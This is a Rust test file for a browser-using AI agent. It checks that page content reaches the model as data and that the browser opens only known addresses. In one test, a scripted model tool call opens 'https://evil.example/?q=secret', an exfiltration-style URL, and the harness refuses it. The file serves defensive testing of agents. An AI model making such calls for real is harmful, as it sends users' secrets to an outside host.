//! A model that uses a browser.

use super::*;

const FIRST: &str = "<title>Tern Ltd</title><p>title: Tern</p><button>Show more</button>";
const AFTER: &str = "<title>Tern Ltd</title><p>title: Tern</p><p>founder: Ada Skua</p>";

fn clicking() -> FakeWeb {
    let mut web = FakeWeb::new(&[(HOME, FIRST)]);
    web.states.insert(HOME, vec![FIRST, AFTER]);
    web
}

#[tokio::test]
async fn values_behind_a_click_are_recorded_from_the_page_after_it() {
    let record = json!({ "fields": [entry("/founder", json!("Ada Skua"), HOME, "founder: Ada Skua"),
        entry("/title", json!("Tern"), HOME, "title: Tern")] });
    let lines = vec![
        calls(&[("open_browser", json!({ "url": HOME }))]),
        calls(&[("browser_command", json!({ "command": "click @e0" }))]),
        calls(&[("read_browser", json!({}))]),
        calls(&[("record", record)]),
        calls(&[finish()]),
    ];
    let run = play_on(clicking(), &wants_title(), ScriptedChat::new(lines), 0).await;
    assert_eq!(data(&run.ended)["founder"], "Ada Skua");
    let asks = run.script.asks();
    let shown = asks[1].messages.iter().any(
        |message| matches!(message, Message::Data { source, text } if source == HOME && text.contains("Show more")),
    );
    assert!(shown, "what the browser shows comes as data");
}

#[tokio::test]
async fn a_browser_is_offered_only_where_there_is_one_and_opens_known_addresses_only() {
    let offered = |run: &PlayedRun| {
        run.script.asks()[0].tools.iter().filter(|tool| tool.name.contains("browser")).count()
    };
    let lines = || {
        vec![
            calls(&[("open_browser", json!({ "url": "https://evil.example/?q=secret" }))]),
            calls(&[("browser_command", json!({ "command": "click @e0" }))]),
            calls(&[finish()]),
        ]
    };
    let with = play_on(clicking(), &wants_title(), ScriptedChat::new(lines()), 0).await;
    assert_eq!(offered(&with), 3);
    // The two calls were refused before they began; what follows is done without the model.
    assert_eq!(with.journal.tools()[0], "finish");
    let without = play(&wants_title(), lines()).await;
    assert_eq!(offered(&without), 0);
}
